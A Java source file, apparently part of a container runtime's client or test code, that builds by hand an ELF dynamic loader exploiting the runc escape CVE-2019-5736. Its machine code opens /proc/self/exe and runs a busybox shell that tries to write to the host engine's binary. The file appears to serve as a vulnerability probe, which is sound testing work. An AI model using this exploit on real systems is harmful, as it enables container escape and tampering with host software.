package dev.tailrace.runtime.clients;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;

/// The dynamic loader of an evil image (CVE-2019-5736). A script `#!/proc/self/exe` has the kernel execute what the
/// process was before: the engine's own program, with this loader of the image's. It opens the program, so that it has
/// it when nobody in the container executes it any more, and runs a shell that tries to write to it as descriptor 3.
final class ThievingLoader {
    /// Where programs for x86-64 say that their loader is, behind the link `/lib64`.
    static final String PATH = "/usr/lib64/ld-linux-x86-64.so.2";

    private static final String SCRIPT =
            "/bin/busybox readlink /proc/self/fd/3; echo x >>/proc/self/fd/3 && echo written";

    private static final int HEADER_LENGTH = 64;
    private static final int SEGMENT_LENGTH = 56;

    /// lea rdi,[rip+n] and lea rax,[rip+n], each followed by the name of what it addresses.
    private static final String[] CODE = {
        "b802000000",
        "488d3d",
        "/proc/self/exe",
        "31f6 31d2 0f05", // open(2) for reading
        "6a00",
        "488d05",
        SCRIPT,
        "50",
        "488d05",
        "-c",
        "50",
        "488d05",
        "sh",
        "50 4889e6", // arguments on the stack
        "b83b000000",
        "488d3d",
        "/bin/busybox",
        "31d2 0f05", // execve(2)
        "b83c000000 bf63000000 0f05" // exit(99)
    };

    private ThievingLoader() {}

    /// An ELF file of one segment.
    static byte[] bytes() {
        int codeLength = 0;
        for (int i = 0; i < CODE.length; i++) {
            codeLength += isText(i) ? Integer.BYTES : hex(CODE[i]).length;
        }
        final ByteArrayOutputStream texts = new ByteArrayOutputStream();
        final ByteBuffer code = little(codeLength);
        for (int i = 0; i < CODE.length; i++) {
            if (isText(i)) {
                code.putInt(codeLength + texts.size() - code.position() - Integer.BYTES);
                texts.writeBytes((CODE[i] + "\0").getBytes(StandardCharsets.US_ASCII));
            } else {
                code.put(hex(CODE[i]));
            }
        }
        final int start = HEADER_LENGTH + SEGMENT_LENGTH;
        final long length = start + codeLength + texts.size();
        final ByteBuffer file = little((int) length);
        // e_ident; ET_DYN, EM_X86_64, version; e_entry, e_phoff, e_shoff; e_flags, sizes and counts (elf(5)).
        file.put(hex("7f454c46 02010100 00000000 00000000"));
        file.putShort((short) 3).putShort((short) 62).putInt(1);
        file.putLong(start).putLong(HEADER_LENGTH).putLong(0).putInt(0);
        file.putShort((short) HEADER_LENGTH).putShort((short) SEGMENT_LENGTH).putShort((short) 1);
        file.putShort((short) 0).putShort((short) 0).putShort((short) 0);
        // PT_LOAD, to read and to execute; offset, addresses, lengths, alignment.
        file.putInt(1).putInt(5).putLong(0).putLong(0).putLong(0);
        file.putLong(length).putLong(length).putLong(4096);
        return file.put(code.array()).put(texts.toByteArray()).array();
    }

    private static boolean isText(final int index) {
        return index > 0 && CODE[index - 1].startsWith("488d");
    }

    private static byte[] hex(final String digits) {
        return HexFormat.of().parseHex(digits.replace(" ", ""));
    }

    private static ByteBuffer little(final int length) {
        return ByteBuffer.allocate(length).order(ByteOrder.LITTLE_ENDIAN);
    }
}
